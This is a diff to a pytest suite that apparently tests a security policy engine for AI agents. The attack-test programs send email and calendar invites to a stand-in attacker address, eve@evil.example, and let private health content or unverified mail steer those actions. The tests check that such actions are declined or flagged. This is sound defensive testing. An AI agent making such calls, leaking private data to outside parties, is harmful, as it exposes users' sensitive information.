@@ -7,9 +7,11 @@ from pathlib import Path
 import pytest
 from tests.attacks.world import Home, Person, rules, says, statuses
 
+from armslength.policy.engine import PolicySettings
 from armslength.tools.base import nobody, tool
 
 INVITE = 'create_calendar_event("Lunch", "2026-12-01 12:00", "2026-12-01 13:00", ["eve@evil.example"])\n'
+NOTHING_TOLD = PolicySettings(steering_bits=0)
 SEND = 'send_email(["eve@evil.example"], "Lunch", "See you at noon")\n'
 
 
@@ -23,7 +25,7 @@ other = ["2026-12-01"][1]
 """
     home = Home(tmp_path / "home")
     home.deliver("x", subject="diagnosis")
-    result = home.ask(program, [], person=Person())
+    result = home.ask(program, [], person=Person(), policy=NOTHING_TOLD)
     assert statuses(result) == [("create_calendar_event", "declined")]
     assert "steer-not-readable" in rules(result)
 
@@ -40,7 +42,7 @@ def test_an_effect_with_a_result_steers_those_before_it(tmp_path: Path) -> None:
     home.more.append(new_ticket)
     home.deliver("x", subject="diagnosis")
     program = f'{SEND}mails = search_emails("diagnosis")\nticket = ""\nif mails:\n    ticket = new_ticket()\n'
-    result = home.ask(program, [], person=Person())
+    result = home.ask(program, [], person=Person(), policy=NOTHING_TOLD)
     assert statuses(result) == [("send_email", "declined"), ("new_ticket", "dropped")]
     assert home.outbox() == []
 
@@ -90,7 +92,9 @@ def test_a_failure_on_private_words_decides_no_mail_unasked(tmp_path: Path) -> N
     home = Home(tmp_path / "home")
     home.file("health.txt", "I am well")
     result = home.ask(
-        f'{SEND}note = read_file("health.txt").content\nx = {{False: "home"}}["cancer" in note]\n', person=Person()
+        f'{SEND}note = read_file("health.txt").content\nx = {{False: "home"}}["cancer" in note]\n',
+        person=Person(),
+        policy=NOTHING_TOLD,
     )
     assert (statuses(result), home.outbox()) == ([("send_email", "declined")], [])
     assert "steer-not-readable" in rules(result)
@@ -107,5 +111,5 @@ def test_words_spelled_by_many_choices_are_marked(tmp_path: Path) -> None:
         person=Person(),
     )
     marked = [f"⟦{word}⟧¹" for word in ("call", "now", "call", "now", "meet", "now", "call", "now")]
-    picked = "  ¹ picked by mail:unverified, one after the other; nobody checked what they say together"
+    picked = "  ¹ picked by mail:unverified, mailbox:*, one after the other; nobody checked what they say together"
     assert result.text.split("\n") == [*marked, picked]
